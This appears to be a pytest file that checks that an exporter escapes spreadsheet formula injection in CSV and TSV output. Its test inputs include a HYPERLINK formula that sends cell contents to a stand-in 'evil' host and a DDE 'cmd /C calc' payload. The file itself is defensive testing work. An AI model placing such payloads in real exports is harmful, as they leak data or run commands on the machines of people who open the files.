"""A cell that a spreadsheet would take for a formula is text with a `'` before it."""

from __future__ import annotations

import pytest

from tests.support.made_results import answered, made
from tests.support.output_readers import read_markdown, read_separated, read_sqlite

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1;1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1+1",
    "-",
    "+49 170 1234567",
    "=",
)
HARMLESS = ("-5", "+3.25", "-1e-7", ".5", "-.5", "a=1", " =1", "'=1", "1-2", "", "\u22125")


@pytest.mark.parametrize("form", ["csv", "tsv"])
@pytest.mark.parametrize("text", FORMULAS)
def test_it_cannot_run_in_any_column(form, text, tmp_path):
    rows = [answered(text, text, **{text: text})]
    (found,) = read_separated(made(form, rows, tmp_path, escape=True), ",\t"[form == "tsv"])
    assert found[f"'{text}"] == found["id"] == found["answer"] == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_and_texts_with_it_further_on_stay_as_they_are(text, tmp_path):
    (found,) = read_separated(
        made("csv", [answered("a", text, t=text)], tmp_path, escape=True), ","
    )
    assert found["answer"] == found["t"] == text


def test_negative_numbers_of_the_input_stay_numbers(tmp_path):
    rows = [answered("a", "x", n=-5, f=-1.5, tags=["=1"])]
    (found,) = read_separated(made("csv", rows, tmp_path, escape=True), ",")
    assert (found["n"], found["f"], found["tags"]) == ("-5", "-1.5", '["=1"]')


@pytest.mark.parametrize("text", FORMULAS)
def test_where_it_is_not_wanted_and_where_nothing_runs_it_is_left_out(text, tmp_path):
    rows = [answered("a", text)]
    (found,) = read_separated(made("csv", rows, tmp_path, escape=False), ",")
    assert found["answer"] == text
    (found,) = read_sqlite(made("sqlite", rows, tmp_path, escape=True), tmp_path)
    assert found["answer"] == text
    (found,) = read_markdown(made("markdown", rows, tmp_path, "answer", escape=True))
    assert not found["answer"].startswith("'")
